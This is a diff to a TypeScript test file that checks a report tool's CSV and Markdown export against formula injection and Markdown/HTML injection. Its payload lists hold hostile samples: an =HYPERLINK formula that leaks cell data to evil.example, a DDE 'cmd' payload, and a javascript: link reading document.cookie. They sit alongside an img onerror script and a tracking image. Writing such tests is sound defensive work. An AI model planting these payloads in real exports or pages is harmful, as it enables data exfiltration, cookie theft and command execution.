@@ -1,5 +1,6 @@
-// Report text is untrusted: exported as CSV it must never become a spreadsheet formula,
-// and as Markdown it must not smuggle in table cells or HTML.
+// Report text is untrusted: exported as CSV it must never become a spreadsheet formula
+// (full-width ＝＋－＠ included), and as Markdown it must not smuggle in table cells, HTML,
+// links or images.
 import assert from 'node:assert/strict';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -27,8 +28,9 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
-const DANGEROUS = /^[=+\-@\t\r]/;
-const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(1,1)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0', '"=1"', ',=1', '\n=1'];
+const DANGEROUS = /^[=+\-@\t\r＝＋－＠]/;
+const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(1,1)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0', '"=1"', ',=1', '\n=1',
+  '＝HYPERLINK("http://evil.example/","点击")', '＋1+1', '－2+3', '＠SUM(1,1)'];
 
 const hit = (text: string, title = '标题'): Hit => ({
   id: 'x:p1', reportId: '0123456789abcdef', ordinal: 1, section: 'overview', themes: [], score: 1, text, highlights: [], html: text, snippet: text,
@@ -55,6 +57,25 @@ describe('CSV export', () => {
     assert.doesNotMatch(md, /<script>|<b>/);
     const row = md.trim().split('\n').at(-1)!;
     assert.equal(row.split(/(?<!\\)\|/).length, 5, row);
+  });
+
+  it('leaves no link, image, autolink, HTML or emphasis from report text live in Markdown, and keeps the text whole', () => {
+    const hostile = ['[点此查看](javascript:alert(document.cookie))', '![统计图](http://evil.example/track.png)', '<http://evil.example>',
+      '<img src=x onerror=alert(1)>', '[a][1]\n\n[1]: javascript:alert(1)', '**粗体** _斜体_ `代码` ~~删除~~', '\\[转义](x)', '&lt;b&gt;', 'a | b'];
+    /** What a Markdown reader shows for a cell: backslash escapes and the three entities undone. */
+    const shown = (cell: string) => cell.replace(/\\(.)/g, '$1').replace(/&(lt|gt|amp);/g, (_m, e: string) => ({ lt: '<', gt: '>', amp: '&' })[e]!);
+    fc.assert(fc.property(fc.oneof(fc.constantFrom(...hostile), fc.string({ maxLength: 30 })), (text) => {
+      const md = exportResults([hit(text, text)], 'md', text).body;
+      const row = md.trim().split('\n').at(-1)!;
+      const cells = row.split(/(?<!\\)\|/).slice(1, -1).map((c) => c.trim());
+      assert.equal(cells.length, 3, row);
+      // No Markdown syntax character is left bare: each is behind a backslash or an entity.
+      for (const cell of cells.slice(1)) assert.doesNotMatch(cell.replace(/\\./g, ''), /[`*_[\]|~<>]|&(?!(lt|gt|amp);)/, cell);
+      assert.equal(shown(cells[1]!), text.replace(/\r\n|[\r\n]/g, ' ').trim());
+    }), { numRuns: 300, seed: 7 });
+    const md = exportResults([hit(hostile[0]!), hit(hostile[1]!)], 'md', '').body;
+    assert.ok(md.includes('\\[点此查看\\](javascript:alert(document.cookie))'), md);
+    assert.ok(md.includes('!\\[统计图\\](http://evil.example/track.png)'), md);
   });
 });
 
